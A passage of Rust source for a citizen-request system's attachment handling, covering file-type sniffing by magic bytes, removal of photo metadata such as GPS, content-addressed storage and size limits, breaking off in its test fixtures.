//! Citizens' attachments (附件): the photos, short video or PDF a citizen sends with a request
//! through the web mailbox form. Each step is its own function, tested alone:
//!
//! 1. [`sniff`]: what the file *is*, judged from its first bytes. The client's file name and
//!    declared type are never consulted — no function here takes them — so a `photo.jpg` holding
//!    a Windows program is refused as a program.
//! 2. [`strip_metadata`]: a photo without its EXIF/XMP/IPTC metadata, above all the GPS position
//!    of the citizen's phone. A citizen who wants the centre to know where gives an address.
//! 3. [`AttachmentStore`]: the cleaned bytes on disk, named by their SHA-256.
//!
//! [`check_counts`] and [`check_size`] are the limits, as pure checks.

use std::{
    fmt, fs,
    io::{self, Write},
    path::{Path, PathBuf},
    sync::atomic::{AtomicU64, Ordering},
};

use sha2::{Digest, Sha256};

/// Why an attachment is not accepted: in English for logs and the API, in Chinese for the citizen.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{reason}")]
pub struct Refused {
    pub reason: String,
    pub reason_zh: String,
}

impl Refused {
    fn new(reason: impl Into<String>, reason_zh: impl Into<String>) -> Self {
        Self { reason: reason.into(), reason_zh: reason_zh.into() }
    }
}

/// What an attachment is, judged from its content by [`sniff`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum MediaType {
    Jpeg,
    Png,
    Gif,
    WebP,
    /// HEIF holding HEVC images (brands `heic`, `heix`): what iPhones take.
    Heic,
    /// Other HEIF images (brands `mif1`, `heif`).
    Heif,
    Mp4,
    /// QuickTime (brand `qt  `): what iPhones film.
    QuickTime,
    WebM,
    Pdf,
}

/// 照片, 视频 or 文档: the `kind` of an attachment in a submission.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Kind {
    Photo,
    Video,
    Document,
}

impl Kind {
    /// The name a submission's attachment carries: `photo`, `video`, `document`.
    pub fn as_str(self) -> &'static str {
        match self {
            Kind::Photo => "photo",
            Kind::Video => "video",
            Kind::Document => "document",
        }
    }

    /// The kind a submission's attachment names, if it names one.
    pub fn from_key(key: &str) -> Option<Kind> {
        [Kind::Photo, Kind::Video, Kind::Document].into_iter().find(|k| k.as_str() == key)
    }
}

impl MediaType {
    pub fn mime(self) -> &'static str {
        match self {
            MediaType::Jpeg => "image/jpeg",
            MediaType::Png => "image/png",
            MediaType::Gif => "image/gif",
            MediaType::WebP => "image/webp",
            MediaType::Heic => "image/heic",
            MediaType::Heif => "image/heif",
            MediaType::Mp4 => "video/mp4",
            MediaType::QuickTime => "video/quicktime",
            MediaType::WebM => "video/webm",
            MediaType::Pdf => "application/pdf",
        }
    }

    /// The file extension to serve it under, without the dot.
    pub fn extension(self) -> &'static str {
        match self {
            MediaType::Jpeg => "jpg",
            MediaType::Png => "png",
            MediaType::Gif => "gif",
            MediaType::WebP => "webp",
            MediaType::Heic => "heic",
            MediaType::Heif => "heif",
            MediaType::Mp4 => "mp4",
            MediaType::QuickTime => "mov",
            MediaType::WebM => "webm",
            MediaType::Pdf => "pdf",
        }
    }

    pub fn kind(self) -> Kind {
        match self {
            MediaType::Jpeg | MediaType::Png | MediaType::Gif | MediaType::WebP | MediaType::Heic | MediaType::Heif => Kind::Photo,
            MediaType::Mp4 | MediaType::QuickTime | MediaType::WebM => Kind::Video,
            MediaType::Pdf => Kind::Document,
        }
    }

    /// Whether [`strip_metadata`] leaves no location in it. False for HEIC/HEIF and videos, which
    /// are kept as sent (see there), and for PDF, which is not touched: the caller shows those to
    /// the centre only.
    pub fn metadata_stripped(self) -> bool {
        matches!(self, MediaType::Jpeg | MediaType::Png | MediaType::Gif | MediaType::WebP)
    }
}

impl fmt::Display for MediaType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.mime())
    }
}

const PNG_SIGNATURE: &[u8] = b"\x89PNG\r\n\x1a\n";

/// What the bytes are, from their magic numbers alone; everything not a photo (JPEG, PNG, GIF,
/// WebP, HEIC/HEIF), a video (MP4, MOV, WebM) or a PDF is refused, the commonest dangerous kinds
/// (programs, scripts, web pages, SVG, archives) by name.
///
/// A polyglot (a valid JPEG that is also something else) passes: serve attachments with the
/// sniffed type, `X-Content-Type-Options: nosniff`, and PDFs as downloads (they can hold script).
pub fn sniff(bytes: &[u8]) -> Result<MediaType, Refused> {
    let at = |offset: usize, magic: &[u8]| bytes.get(offset..offset + magic.len()) == Some(magic);
    if bytes.is_empty() {
        return Err(Refused::new("the file is empty", "文件为空"));
    }
    if at(0, &[0xFF, 0xD8, 0xFF]) {
        return Ok(MediaType::Jpeg);
    }
    if at(0, PNG_SIGNATURE) {
        return Ok(MediaType::Png);
    }
    if at(0, b"GIF87a") || at(0, b"GIF89a") {
        return Ok(MediaType::Gif);
    }
    if at(0, b"RIFF") && bytes.len() >= 12 {
        return riff(&bytes[8..12]);
    }
    if at(4, b"ftyp") {
        return iso_media(bytes);
    }
    if at(0, &[0x1A, 0x45, 0xDF, 0xA3]) {
        return match ebml_doc_type(bytes) {
            Some(b"webm") => Ok(MediaType::WebM),
            _ => Err(Refused::new("a Matroska (MKV) video is not accepted: send MP4 or WebM", "不支持MKV格式的视频，请上传MP4或WebM格式")),
        };
    }
    if at(0, b"%PDF-") {
        return Ok(MediaType::Pdf);
    }
    Err(not_accepted(bytes))
}

fn unsupported() -> Refused {
    Refused::new(
        "the content is not a supported photo (JPEG, PNG, GIF, WebP, HEIC), video (MP4, MOV, WebM) or PDF document",
        "无法识别的文件格式：仅支持照片（JPEG、PNG、GIF、WebP、HEIC）、视频（MP4、MOV、WebM）和PDF文档",
    )
}

/// The reason for a file that is none of the accepted types, as specific as its magic allows.
fn not_accepted(bytes: &[u8]) -> Refused {
    const PROGRAM_ZH: &str = "文件内容为可执行程序，不是图片或视频";
    let at = |magic: &[u8]| bytes.starts_with(magic);
    if at(b"MZ") {
        return Refused::new("an executable (Windows PE) is not an image or video", PROGRAM_ZH);
    }
    if at(b"\x7fELF") {
        return Refused::new("an executable (ELF) is not an image or video", PROGRAM_ZH);
    }
    const MACH_O: [&[u8]; 5] = [b"\xfe\xed\xfa\xce", b"\xfe\xed\xfa\xcf", b"\xce\xfa\xed\xfe", b"\xcf\xfa\xed\xfe", b"\xca\xfe\xba\xbe"];
    if MACH_O.iter().any(|&m| at(m)) {
        return Refused::new("an executable (Mach-O or Java class) is not an image or video", PROGRAM_ZH);
    }
    if at(b"#!") {
        return Refused::new("a script (#!) is not an image or video", "文件内容为脚本程序，不是图片或视频");
    }
    if let Some(refused) = markup(bytes) {
        return refused;
    }
    if at(b"PK\x03\x04") || at(b"PK\x05\x06") || at(b"PK\x07\x08") {
        return Refused::new(
            "a ZIP archive (Word, Excel and PowerPoint files are ZIP archives too) is not an image or video: send documents as PDF",
            "文件内容为压缩包或Office文档，不是图片或视频；文档请转换为PDF后上传",
        );
    }
    if at(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1") {
        return Refused::new("an Office document (doc, xls, ppt) is not accepted: send it as PDF", "不接受Office文档，请转换为PDF后上传");
    }
    if at(b"Rar!\x1a\x07") || at(b"7z\xbc\xaf\x27\x1c") || at(b"\x1f\x8b") {
        return Refused::new("an archive (RAR, 7z or gzip) is not an image or video", "文件内容为压缩包，不是图片或视频");
    }
    if at(b"II*\0") || at(b"MM\0*") {
        return Refused::new(
            "a TIFF or camera RAW image is not accepted: send JPEG or PNG",
            "不支持TIFF或RAW格式的图片，请上传JPEG或PNG格式",
        );
    }
    unsupported()
}

/// HTML, SVG or XML: text whose first character (after a byte-order mark and blanks) is `<`.
/// SVG is an image, but one that can carry script and links: refused like HTML.
fn markup(bytes: &[u8]) -> Option<Refused> {
    let text = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(bytes);
    let start = text.iter().position(|b| !b.is_ascii_whitespace())?;
    if text[start] != b'<' {
        return None;
    }
    let head = text[start..text.len().min(start + 4096)].to_ascii_lowercase();
    let has = |needle: &[u8]| head.windows(needle.len()).any(|w| w == needle);
    Some(if has(b"<svg") {
        Refused::new(
            "an SVG image is not accepted: it can carry script; send JPEG or PNG",
            "不接受SVG图片（可能含有脚本），请上传JPEG或PNG格式",
        )
    } else if head.starts_with(b"<?xml") && !has(b"<html") {
        Refused::new("an XML document is not an image or video", "文件内容为XML文档，不是图片或视频")
    } else {
        Refused::new("an HTML page is not an image or video", "文件内容为网页，不是图片或视频")
    })
}

fn riff(form: &[u8]) -> Result<MediaType, Refused> {
    match form {
        b"WEBP" => Ok(MediaType::WebP),
        b"AVI " => Err(Refused::new("an AVI video is not accepted: send MP4 or WebM", "不支持AVI格式的视频，请上传MP4或WebM格式")),
        b"WAVE" => Err(Refused::new("an audio file (WAV) is not a photo or video", "不接受音频文件，请上传图片或视频")),
        _ => Err(unsupported()),
    }
}

/// ISO base media (`ftyp` box): HEIC/HEIF photos and MP4/MOV videos, told apart by their brands.
fn iso_media(bytes: &[u8]) -> Result<MediaType, Refused> {
    const HEIC: [&[u8]; 2] = [b"heic", b"heix"];
    const HEIF: [&[u8]; 2] = [b"mif1", b"heif"];
    const MP4: [&[u8]; 15] = [
        b"isom", b"iso2", b"iso3", b"iso4", b"iso5", b"iso6", b"mp41", b"mp42", b"avc1", b"M4V ", b"M4VH", b"M4VP", b"mmp4", b"MSNV",
        b"dash",
    ];
    const QT: [&[u8]; 1] = [b"qt  "];
    const AUDIO: [&[u8]; 4] = [b"M4A ", b"M4B ", b"M4P ", b"F4A "];
    let size = be32(bytes, 0).unwrap_or(0) as usize;
    let major = bytes.get(8..12).unwrap_or_default();
    let compatible = bytes.get(16..size.min(bytes.len())).unwrap_or_default().chunks_exact(4);
    let brands: Vec<&[u8]> = std::iter::once(major).chain(compatible).collect();
    let any = |set: &[&[u8]]| brands.iter().any(|b| set.contains(b));
    if major == b"avif" || major == b"avis" {
        return Err(Refused::new(
            "an AVIF image is not accepted yet: send JPEG, PNG or HEIC",
            "暂不支持AVIF格式的图片，请上传JPEG、PNG或HEIC格式",
        ));
    }
    if AUDIO.contains(&major) {
        return Err(Refused::new("an audio file (M4A) is not a photo or video", "不接受音频文件，请上传图片或视频"));
    }
    if any(&HEIC) {
        Ok(MediaType::Heic)
    } else if any(&HEIF) {
        Ok(MediaType::Heif)
    } else if major == b"qt  " {
        Ok(MediaType::QuickTime)
    } else if any(&MP4) {
        Ok(MediaType::Mp4)
    } else if any(&QT) {
        Ok(MediaType::QuickTime)
    } else {
        Err(Refused::new(
            format!("an ISO media file of brand \"{}\" is not a supported photo or video", major.escape_ascii()),
            "不支持的图片或视频格式",
        ))
    }
}

/// The `DocType` of an EBML header (`webm` or `matroska`); Matroska is the default when absent.
fn ebml_doc_type(bytes: &[u8]) -> Option<&[u8]> {
    let (size, len) = ebml_size(bytes.get(4..)?)?;
    let end = bytes.len().min(4 + len + usize::try_from(size).ok()?.min(1024));
    let mut pos = 4 + len;
    while pos < end {
        let first = *bytes.get(pos)?;
        let id_len = first.leading_zeros() as usize + 1;
        if id_len > 4 {
            return None;
        }
        let id = bytes.get(pos..pos + id_len)?;
        let (size, len) = ebml_size(bytes.get(pos + id_len..)?)?;
        let data = pos + id_len + len;
        let data_end = data.checked_add(usize::try_from(size).ok()?)?;
        if id == [0x42, 0x82] {
            return bytes.get(data..data_end);
        }
        pos = data_end;
    }
    Some(b"matroska")
}

/// An EBML variable-length size: its value and how many bytes it took.
fn ebml_size(bytes: &[u8]) -> Option<(u64, usize)> {
    let first = *bytes.first()?;
    let len = first.leading_zeros() as usize + 1;
    if len > 8 {
        return None;
    }
    let mut value = u64::from(first) & (0xFF >> len);
    for b in bytes.get(1..len)? {
        value = value << 8 | u64::from(*b);
    }
    Some((value, len))
}

/// The photo without its metadata: EXIF (GPS position, camera, time), XMP and IPTC.
///
/// - JPEG: the markers are walked to the end of the image. Kept: JFIF (APP0), the ICC colour
///   profile (APP2 `ICC_PROFILE`), Adobe's colour transform (APP14), comments, tables, frames and
///   scans byte for byte. Dropped: every APP1 (Exif, XMP), APP13 (IPTC/Photoshop) and every other
///   application segment — none is needed to draw the picture, and vendors keep GPS in some
///   (GoPro's APP6) — and whatever follows the end-of-image marker: phones append a second
///   image (MPF, whose APP2 `MPF` index goes too) or a "motion photo" video with metadata of its
///   own. The EXIF orientation alone is kept, in a new minimal APP1, or portrait photos would
///   show on their side.
/// - PNG: the chunks are walked; `eXIf`, `tEXt`, `iTXt` (XMP) and `zTXt` dropped, the rest kept
///   byte for byte up to `IEND`.
/// - WebP: the RIFF chunks are walked; `EXIF` and `XMP ` dropped, their flags cleared in `VP8X`,
///   the RIFF size fixed.
/// - GIF carries no EXIF: unchanged.
/// - HEIC/HEIF and videos: unchanged. Their metadata (GPS included) is referenced from `meta`
///   and `moov` boxes by absolute file offsets; removing it means rewriting every offset, a full
///   ISO-BMFF rewriter this crate does not have. [`MediaType::metadata_stripped`] says so, and the
///   caller decides: such files are shown to the centre only, never published.
/// - PDF: unchanged.
///
/// A malformed image (a length past the end, a truncated segment) is refused, never a panic.
pub fn strip_metadata(media: MediaType, bytes: &[u8]) -> Result<Vec<u8>, Refused> {
    match media {
        MediaType::Jpeg => strip_jpeg(bytes),
        MediaType::Png => strip_png(bytes),
        MediaType::WebP => strip_webp(bytes),
        MediaType::Gif | MediaType::Heic | MediaType::Heif | MediaType::Mp4 | MediaType::QuickTime | MediaType::WebM | MediaType::Pdf => {
            Ok(bytes.to_vec())
        }
    }
}

fn damaged(format: &str, detail: impl fmt::Display) -> Refused {
    Refused::new(format!("the {format} file is damaged: {detail}"), "图片文件已损坏或不完整，无法处理，请重新上传")
}

fn be16(b: &[u8], at: usize) -> Option<u16> {
    Some(u16::from_be_bytes(b.get(at..at.checked_add(2)?)?.try_into().ok()?))
}

fn be32(b: &[u8], at: usize) -> Option<u32> {
    Some(u32::from_be_bytes(b.get(at..at.checked_add(4)?)?.try_into().ok()?))
}

fn le32(b: &[u8], at: usize) -> Option<u32> {
    Some(u32::from_le_bytes(b.get(at..at.checked_add(4)?)?.try_into().ok()?))
}

fn strip_jpeg(b: &[u8]) -> Result<Vec<u8>, Refused> {
    let cut = || damaged("JPEG", "it ends before its image data");
    if !b.starts_with(&[0xFF, 0xD8]) {
        return Err(damaged("JPEG", "it does not start with a start-of-image marker"));
    }
    let mut out = Vec::with_capacity(b.len());
    out.extend_from_slice(&b[..2]);
    let mut pos = 2;
    let mut scanned = false;
    let mut exif_seen = false;
    loop {
        // A marker: 0xFF, optional 0xFF fill bytes, the marker's code.
        let start = pos;
        match b.get(pos) {
            None => return Err(cut()),
            Some(0xFF) => {}
            Some(_) => return Err(damaged("JPEG", format_args!("no marker at byte {pos}"))),
        }
        while b.get(pos) == Some(&0xFF) {
            pos += 1;
        }
        let marker = *b.get(pos).ok_or_else(cut)?;
        pos += 1;
        match marker {
            0xD9 if scanned => {
                out.extend_from_slice(&b[start..pos]);
                return Ok(out);
            }
            0xD9 => return Err(cut()),
            0x01 | 0xD0..=0xD7 => {
                out.extend_from_slice(&b[start..pos]);
                continue;
            }
            0x00 | 0xD8 => return Err(damaged("JPEG", format_args!("unexpected marker {marker:#04x} at byte {start}"))),
            _ => {}
        }
        let length = usize::from(be16(b, pos).ok_or_else(cut)?);
        let end = pos + length;
        if length < 2 || end > b.len() {
            return Err(damaged("JPEG", format_args!("the segment at byte {start} runs past the end of the file")));
        }
        let payload = &b[pos + 2..end];
        pos = end;
        if (0xE0..=0xEF).contains(&marker) && !keep_jpeg_app(marker, payload) {
            if marker == 0xE1
                && !exif_seen
                && let Some(exif) = payload.strip_prefix(b"Exif\0\0")
            {
                exif_seen = true;
                if let Some(orientation) = exif_orientation(exif) {
                    out.extend_from_slice(&orientation_app1(orientation));
                }
            }
            continue;
        }
        out.extend_from_slice(&b[start..end]);
        if marker == 0xDA {
            // Entropy-coded data, copied verbatim up to the next marker that is neither a stuffed
            // 0xFF00 nor a restart: a table or scan of a progressive image, or the end.
            scanned = true;
            let data = pos;
            loop {
                let Some(ff) = b[pos..].iter().position(|&x| x == 0xFF).map(|i| pos + i) else {
                    // No end-of-image marker: a camera that stopped short; the scan is all there is.
                    out.extend_from_slice(&b[data..]);
                    return Ok(out);
                };
                match b.get(ff + 1) {
                    None => {
                        out.extend_from_slice(&b[data..]);
                        return Ok(out);
                    }
                    Some(0x00 | 0xD0..=0xD7) => pos = ff + 2,
                    Some(0xFF) => pos = ff + 1,
                    Some(_) => {
                        out.extend_from_slice(&b[data..ff]);
                        pos = ff;
                        break;
                    }
                }
            }
        }
    }
}

/// The application segments needed to draw the picture right; every other one is metadata.
fn keep_jpeg_app(marker: u8, payload: &[u8]) -> bool {
    match marker {
        0xE0 => payload.starts_with(b"JFIF\0"),
        0xE2 => payload.starts_with(b"ICC_PROFILE\0"),
        0xEE => payload.starts_with(b"Adobe"),
        _ => false,
    }
}

/// The EXIF orientation (2–8; 1 is the default and needs no tag) from a TIFF structure.
fn exif_orientation(tiff: &[u8]) -> Option<u8> {
    let big = match tiff.get(..2)? {
        b"MM" => true,
        b"II" => false,
        _ => return None,
    };
    let u16_at = |at: usize| be16(tiff, at).map(|v| if big { v } else { v.swap_bytes() });
    let u32_at = |at: usize| be32(tiff, at).map(|v| if big { v } else { v.swap_bytes() });
    if u16_at(2)? != 42 {
        return None;
    }
    let ifd = usize::try_from(u32_at(4)?).ok()?;
    for i in 0..usize::from(u16_at(ifd)?) {
        let entry = ifd.checked_add(2 + 12 * i)?;
        // Orientation, of type SHORT: its value in the first two bytes of the value field.
        if u16_at(entry)? == 0x0112 && u16_at(entry + 2)? == 3 {
            return u8::try_from(u16_at(entry + 8)?).ok().filter(|o| (2..=8).contains(o));
        }
    }
    None
}

/// An APP1 segment holding an EXIF structure with the orientation and nothing else.
fn orientation_app1(orientation: u8) -> [u8; 36] {
    let mut s = [0; 36];
    s[..4].copy_from_slice(&[0xFF, 0xE1, 0, 34]);
    // "Exif\0\0", a big-endian TIFF header with IFD0 at 8, IFD0 of one entry
    // (Orientation, SHORT, count 1, value), no next IFD.
    s[4..18].copy_from_slice(b"Exif\0\0MM\0\x2a\0\0\0\x08");
    s[18..30].copy_from_slice(&[0, 1, 0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, orientation]);
    s
}

fn strip_png(b: &[u8]) -> Result<Vec<u8>, Refused> {
    if !b.starts_with(PNG_SIGNATURE) {
        return Err(damaged("PNG", "its signature is wrong"));
    }
    let mut out = Vec::with_capacity(b.len());
    out.extend_from_slice(PNG_SIGNATURE);
    let mut pos = PNG_SIGNATURE.len();
    loop {
        let (Some(length), Some(kind)) = (be32(b, pos), b.get(pos + 4..pos + 8)) else {
            return Err(damaged("PNG", "it ends before its IEND chunk"));
        };
        if length > 0x7FFF_FFFF || !kind.iter().all(u8::is_ascii_alphabetic) {
            return Err(damaged("PNG", format_args!("no valid chunk at byte {pos}")));
        }
        let end = usize::try_from(length).ok().and_then(|n| (pos + 12).checked_add(n)).filter(|&end| end <= b.len());
        let Some(end) = end else {
            return Err(damaged("PNG", format_args!("the {} chunk runs past the end of the file", kind.escape_ascii())));
        };
        if !matches!(kind, b"eXIf" | b"tEXt" | b"iTXt" | b"zTXt") {
            out.extend_from_slice(&b[pos..end]);
        }
        pos = end;
        if kind == b"IEND" {
            return Ok(out);
        }
    }
}

fn strip_webp(b: &[u8]) -> Result<Vec<u8>, Refused> {
    if !(b.starts_with(b"RIFF") && b.get(8..12) == Some(b"WEBP")) {
        return Err(damaged("WebP", "its RIFF header is wrong"));
    }
    let riff_end =
        le32(b, 4).and_then(|n| usize::try_from(n).ok()).and_then(|n| n.checked_add(8)).filter(|&end| end <= b.len() && end >= 12);
    let Some(riff_end) = riff_end else {
        return Err(damaged("WebP", "its RIFF size runs past the end of the file"));
    };
    let mut out = Vec::with_capacity(riff_end);
    out.extend_from_slice(&b[..12]);
    let mut pos = 12;
    while pos < riff_end {
        let (Some(fourcc), Some(size)) = (b.get(pos..pos + 4).filter(|_| pos + 8 <= riff_end), le32(b, pos + 4)) else {
            return Err(damaged("WebP", format_args!("the chunk at byte {pos} is cut short")));
        };
        let data_end = usize::try_from(size).ok().and_then(|n| (pos + 8).checked_add(n)).filter(|&end| end <= riff_end);
        let Some(data_end) = data_end else {
            return Err(damaged("WebP", format_args!("the {} chunk runs past the end of the file", fourcc.escape_ascii())));
        };
        // Chunks are padded to an even size; a last chunk missing its pad byte gets one.
        let next = (data_end + (data_end - pos) % 2).min(riff_end);
        if !matches!(fourcc, b"EXIF" | b"XMP ") {
            let at = out.len();
            out.extend_from_slice(&b[pos..next]);
            if (next - pos) % 2 == 1 {
                out.push(0);
            }
            if fourcc == b"VP8X" {
                // Flags: reserved (2 bits), ICC, alpha, EXIF, XMP, animation, reserved.
                let flags = out.get_mut(at + 8).ok_or_else(|| damaged("WebP", "its VP8X chunk is empty"))?;
                *flags &= !0b0000_1100;
            }
        }
        pos = next;
    }
    let riff_size = u32::try_from(out.len() - 8).map_err(|_| damaged("WebP", "it is too large"))?;
    out[4..8].copy_from_slice(&riff_size.to_le_bytes());
    Ok(out)
}

/// Attachments on disk, each file named by the SHA-256 of its bytes: `<root>/ab/ab12…ef`. The
/// same bytes are stored once; reading verifies them.
///
/// Blocking `std::fs`: async callers run it inside `tokio::task::spawn_blocking`. A crash in
/// the middle of [`put`](Self::put) can leave a `.….tmp` file beside the stored ones, never a
/// partial attachment under its real name.
#[derive(Debug, Clone)]
pub struct AttachmentStore {
    root: PathBuf,
}

/// An attachment in the store: its id (64 lowercase hex digits) and size in bytes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Stored {
    pub sha256: String,
    pub size: u64,
}

/// Makes each temporary file's name unique within the process.
static TEMP_SEQ: AtomicU64 = AtomicU64::new(0);

impl AttachmentStore {
    /// The store under `root`, created if missing.
    pub fn open(root: impl Into<PathBuf>) -> io::Result<Self> {
        let root = root.into();
        fs::create_dir_all(&root)?;
        Ok(Self { root })
    }

    /// Stores `bytes` under their SHA-256: written to a temporary file in the final directory,
    /// synced, renamed into place, the directory synced. Storing what is already there (same
    /// name, same size) writes nothing.
    pub fn put(&self, bytes: &[u8]) -> io::Result<Stored> {
        let stored = Stored { sha256: sha256_hex(bytes), size: bytes.len() as u64 };
        let dir = self.root.join(&stored.sha256[..2]);
        let path = dir.join(&stored.sha256);
        match fs::metadata(&path) {
            Ok(m) if m.is_file() && m.len() == stored.size => return Ok(stored),
            // A copy of the wrong size was damaged: replace it.
            Ok(_) => {}
            Err(e) if e.kind() == io::ErrorKind::NotFound => {}
            Err(e) => return Err(e),
        }
        let new_dir = match fs::create_dir(&dir) {
            Ok(()) => true,
            Err(e) if e.kind() == io::ErrorKind::AlreadyExists => false,
            Err(e) => return Err(e),
        };
        let name = format!(".{}.{}.{}.tmp", stored.sha256, std::process::id(), TEMP_SEQ.fetch_add(1, Ordering::Relaxed));
        let mut temp = TempFile(Some(dir.join(name)));
        let temp_path = temp.0.clone().unwrap_or_default();
        let mut file = fs::OpenOptions::new().write(true).create_new(true).open(&temp_path)?;
        file.write_all(bytes)?;
        file.sync_all()?;
        drop(file);
        fs::rename(&temp_path, &path)?;
        temp.0 = None;
        sync_dir(&dir)?;
        if new_dir {
            sync_dir(&self.root)?;
        }
        Ok(stored)
    }

    /// The attachment's bytes, `None` if it is not stored. An id that is not 64 lowercase hex
    /// digits is an `InvalidInput` error (no path outside the store can be named); a file whose
    /// content no longer matches its id is an `InvalidData` error.
    pub fn get(&self, sha256: &str) -> io::Result<Option<Vec<u8>>> {
        let path = self.path(sha256)?;
        let bytes = match fs::read(&path) {
            Ok(bytes) => bytes,
            Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(None),
            Err(e) => return Err(e),
        };
        let actual = sha256_hex(&bytes);
        if actual != sha256 {
            return Err(io::Error::new(
                io::ErrorKind::InvalidData,
                format!("attachment {sha256} is damaged on disk ({}): its content hashes to {actual}", path.display()),
            ));
        }
        Ok(Some(bytes))
    }

    /// Whether the attachment is stored (its content is not read).
    pub fn contains(&self, sha256: &str) -> io::Result<bool> {
        match fs::metadata(self.path(sha256)?) {
            Ok(m) => Ok(m.is_file()),
            Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(false),
            Err(e) => Err(e),
        }
    }

    fn path(&self, sha256: &str) -> io::Result<PathBuf> {
        let valid = sha256.len() == 64 && sha256.bytes().all(|c| matches!(c, b'0'..=b'9' | b'a'..=b'f'));
        if !valid {
            return Err(io::Error::new(io::ErrorKind::InvalidInput, "an attachment id is 64 lowercase hexadecimal digits"));
        }
        Ok(self.root.join(&sha256[..2]).join(sha256))
    }
}

/// A temporary file, removed on drop unless taken out.
struct TempFile(Option<PathBuf>);

impl Drop for TempFile {
    fn drop(&mut self) {
        if let Some(path) = self.0.take() {
            let _ = fs::remove_file(path);
        }
    }
}

/// Makes a rename or a new entry in `dir` durable.
fn sync_dir(dir: &Path) -> io::Result<()> {
    #[cfg(unix)]
    fs::File::open(dir)?.sync_all()?;
    #[cfg(not(unix))]
    let _ = dir;
    Ok(())
}

fn sha256_hex(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 16] = b"0123456789abcdef";
    let digest = Sha256::digest(bytes);
    let mut hex = String::with_capacity(64);
    for b in digest {
        hex.push(char::from(DIGITS[usize::from(b >> 4)]));
        hex.push(char::from(DIGITS[usize::from(b & 0x0F)]));
    }
    hex
}

/// The district's attachment limits (`[intake.attachments]`), shared with the web front that
/// shows them next to its file fields.
pub use jiesu_kit::channels::AttachmentLimits;

const MIB: u64 = 1 << 20;

/// Whether a request may carry attachments of these kinds: at most `max_photos` photos and
/// `max_videos` videos. (Their total is `Limits::max_attachments`' business.)
pub fn check_counts(kinds: &[Kind], limits: &AttachmentLimits) -> Result<(), Refused> {
    let count = |kind| kinds.iter().filter(|k| **k == kind).count();
    let photos = count(Kind::Photo);
    if photos > limits.max_photos {
        return Err(Refused::new(
            format!("at most {} photos per request ({photos} sent)", limits.max_photos),
            format!("照片不能超过{}张", limits.max_photos),
        ));
    }
    let videos = count(Kind::Video);
    if videos > limits.max_videos {
        return Err(Refused::new(
            format!("at most {} videos per request ({videos} sent)", limits.max_videos),
            format!("视频不能超过{}个", limits.max_videos),
        ));
    }
    Ok(())
}

/// Whether one attachment of `kind` may be `size` bytes long.
pub fn check_size(kind: Kind, size: u64, limits: &AttachmentLimits) -> Result<(), Refused> {
    let (max, what, what_zh) = match kind {
        Kind::Photo => (limits.max_photo_bytes, "photo", "照片"),
        Kind::Video => (limits.max_video_bytes, "video", "视频"),
        Kind::Document => (limits.max_document_bytes, "document", "文档"),
    };
    if size <= max {
        return Ok(());
    }
    let (limit, sent) = (human_size(max), human_size(size));
    // Just over the limit both round alike: then the bytes tell.
    let sent = if sent == limit { format!("{size} bytes") } else { sent };
    Err(Refused::new(format!("a {what} may be at most {limit} (this one is {sent})"), format!("{what_zh}不能超过{}", human_size(max))))
}

/// `50MB`, `1.5MB`, `300KB`, `12B` (binary units, as phones show them).
fn human_size(bytes: u64) -> String {
    if bytes >= MIB {
        let mb = format!("{:.1}", bytes as f64 / MIB as f64);
        format!("{}MB", mb.strip_suffix(".0").unwrap_or(&mb))
    } else if bytes >= 1024 {
        format!("{}KB", bytes / 1024)
    } else {
        format!("{bytes}B")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const GPS: &[u8] = b"GPS 31.230416N 121.473701E";

    fn cat(parts: &[&[u8]]) -> Vec<u8> {
        parts.concat()
    }

    /// A JPEG segment: marker, length, payload.
    fn seg(marker: u8, payload: &[u8]) -> Vec<u8> {
        let length = u16::try_from(payload.len() + 2).unwrap();
        cat(&[&[0xFF, marker], &length.to_be_bytes(), payload])
    }

    /// "Exif\0\0" and a big-endian TIFF structure: IFD0 with (Orientation and) a GPSInfo pointer,
    /// a GPS IFD with GPSLatitudeRef "N" and GPSAreaInformation holding [`GPS`].
    fn exif(orientation: Option<u16>) -> Vec<u8> {
        let mut t = b"MM\0\x2a\0\0\0\x08".to_vec();
        let entries: u16 = if orientation.is_some() { 2 } else { 1 };
        t.extend(entries.to_be_bytes());
        if let Some(o) = orientation {
            t.extend([0x01, 0x12, 0, 3, 0, 0, 0, 1]);
            t.extend(o.to_be_bytes());
            t.extend([0, 0]);
        }
        let gps_ifd = u32::try_from(t.len() + 12 + 4).unwrap();
        t.extend([0x88, 0x25, 0, 4, 0, 0, 0, 1]);
        t.extend(gps_ifd.to_be_bytes());
        t.extend([0, 0, 0, 0]);
        t.extend(2u16.to_be_bytes());
        t.extend([0, 1, 0, 2, 0, 0, 0, 2, b'N', 0, 0, 0]);
        let area = u32::try_from(t.len() + 12 + 4).unwrap();
        t.extend([0, 0x1c, 0, 7]);
        t.extend(u32::try_from(GPS.len()).unwrap().to_be_bytes());
        t.extend(area.to_be_bytes());
        t.extend([0, 0, 0, 0]);
        t.extend(GPS);
        cat(&[b"Exif\0\0", &t])
    }

    struct Jpeg {
        soi: Vec<u8>,
        app0: Vec<u8>,
        dqt: Vec<u8>,
        sof0: Vec<u8>,
        dht: Vec<u8>,
        sos: Vec<u8>,
        scan: Vec<u8>,
        eoi: Vec<u8>,
    }

    fn jpeg_parts() -> Jpeg {
        let mut dht = vec![0x00, 1];
        dht.extend([0; 15]);
        dht.push(0x00);
        Jpeg {
            soi: vec![0xFF, 0xD8],
            app0: seg(0xE0, b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0"),
            dqt: seg(0xDB, &[1; 65]),
            sof0: seg(0xC0, &[8, 0, 1, 0, 1, 1, 1, 0x11, 0]),
            dht: seg(0xC4, &dht),
            sos: seg(0xDA, &[1, 1, 0x00, 0, 63, 0]),
            // Entropy-coded data with a stuffed 0xFF00 and a restart marker.
            scan: vec![0x12, 0xFF, 0x00, 0x34, 0xFF, 0xD0, 0x56],
            eoi: vec![0xFF, 0xD9],
        }
    }

